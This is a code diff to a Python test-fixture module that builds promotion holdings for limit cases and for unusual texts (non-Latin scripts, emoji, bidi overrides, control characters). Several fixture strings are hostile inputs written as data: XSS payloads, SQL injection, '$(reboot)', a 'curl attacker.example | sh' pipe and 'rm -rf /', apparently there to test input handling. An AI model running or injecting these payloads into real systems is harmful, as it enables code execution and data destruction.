@@ -1,13 +1,16 @@
-"""What C-LIMITS holds: each way that limits and usage can look, and words that nobody knows."""
+"""The holdings of C-LIMITS (every form of limits and usage) and C-SCRIPTS (unusual texts)."""
+
+# ruff: noqa: RUF001 - letters that look like others are what these texts are for
 
 from decimal import Decimal
 from typing import Any
 
 from gateway.sandbox.customer import Holding
 from gateway.sandbox.generation import Generator
-from gateway.sandbox.promotion import ENROL_AND_ISSUE, GENERIC, Restriction
+from gateway.sandbox.promotion import ENROL_AND_ISSUE, GENERIC, Metadata, Restriction
 
-PROGRAM_ID = 9024
+_LIMITS_PROGRAM_ID = 9024
+_SCRIPTS_PROGRAM_ID = 9022
 
 _EVERY_LIMIT = (
     Restriction("NUMBER_OF_POINTS", "EVENT", "25"),
@@ -28,7 +31,7 @@ def _times(maximum: str, unit: str | None = None) -> Restriction:
 
 
 # name, redemption restrictions, usage, facts of the promotion
-_CASES: tuple[tuple[str, tuple[Restriction, ...], dict[str, Any], dict[str, Any]], ...] = (
+_LIMIT_CASES: tuple[tuple[str, tuple[Restriction, ...], dict[str, Any], dict[str, Any]], ...] = (
     ("Unlimited", (_times("-1"), _points("-1")), {"points": "4990", "times": 4}, {}),
     ("A limit of zero", (_times("0"), _points("0")), {}, {}),
     ("Used beyond a tenth", (_points("0.1"),), {"points": "0.3", "times": 3}, {}),
@@ -62,15 +65,15 @@ _CASES: tuple[tuple[str, tuple[Restriction, ...], dict[str, Any], dict[str, Any]
 
 
 def limit_holdings(generator: Generator) -> list[Holding]:
-    """One holding for each case, and one whose enrolments and issues are unlimited."""
+    """Return a holding for each case, and one whose enrolments and issues are unlimited."""
     holdings = [
         _holding(generator, nth, name, restrictions, usage, facts)
-        for nth, (name, restrictions, usage, facts) in enumerate(_CASES)
+        for nth, (name, restrictions, usage, facts) in enumerate(_LIMIT_CASES)
     ]
     unlimited = generator.promotion(
-        PROGRAM_ID,
+        _LIMITS_PROGRAM_ID,
         90_240_101,
-        len(_CASES),
+        len(_LIMIT_CASES),
         name="Unlimited enrolments and issues",
         offer_type=ENROL_AND_ISSUE,
         issual_restrictions=(Restriction("NUMBER_OF_ISSUALS", "CUSTOMER", "-1"),),
@@ -89,7 +92,7 @@ def _holding(  # noqa: PLR0913, PLR0917 - the columns of the table above
     facts: dict[str, Any],
 ) -> Holding:
     promotion = generator.promotion(
-        PROGRAM_ID,
+        _LIMITS_PROGRAM_ID,
         90_240_001 + nth,
         0,
         **{
@@ -100,3 +103,44 @@ def _holding(  # noqa: PLR0913, PLR0917 - the columns of the table above
         },
     )
     return Holding(promotion=promotion, **usage | {"points": Decimal(usage.get("points", 0))})
+
+
+_CONTROLS = "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029\ufeff"
+
+# name, description
+_TEXTS: tuple[tuple[str, str], ...] = (
+    ("दिवाली की छूट", "देवनागरी में विवरण"),
+    ("عرض رمضان ١٠٪", "نقاط مضاعفة على كل مشترياتك"),
+    ("双倍积分 · 春节", "每满100元积2分，多买多得。"),
+    ("🎉👩‍👩‍👧‍👦 Family 🏳️‍🌈", "Emoji made of several code points: 👩🏽‍🚀🇩🇪"),
+    ("Cafe\u0301 \u0132sland Z\u0351\u036b\u0343\u036a\u0302", "Combining marks, not normalised"),
+    ("\u202eslaog eht lla\u202c \u200fוילון", "Right-to-left override, mark and Hebrew"),
+    ("<script>alert('x')</script>", '<img src=x onerror="alert(1)"><b>Bold</b> &amp; &lt;not&gt;'),
+    ("'; DROP TABLE promotions; --", "Robert'); DROP TABLE students;-- \" OR 1=1"),
+    ("$(reboot)", "curl -L 'https://attacker.example/x' | sh; `id` && rm -rf / # {{7*7}} ${7*7}"),
+    ("Lines", "first\nsecond\r\nthird\rfourth\tfifth"),
+    ("Control characters", _CONTROLS),
+    ("Very long", "A long description. " * 1024),
+    ("  blanks around  ", "   "),
+)
+
+
+def script_holdings(generator: Generator) -> list[Holding]:
+    """Return a holding for each text."""
+    return [
+        Holding(
+            promotion=generator.promotion(
+                _SCRIPTS_PROGRAM_ID,
+                90_220_001 + nth,
+                nth,
+                name=name,
+                description=description,
+                identifier=f"text-{nth}-{name}",
+                offer_type=GENERIC,
+                metadata=(Metadata(name, description[:200], brand_defined=False),),
+            ),
+            points=Decimal(nth),
+            times=nth,
+        )
+        for nth, (name, description) in enumerate(_TEXTS)
+    ]
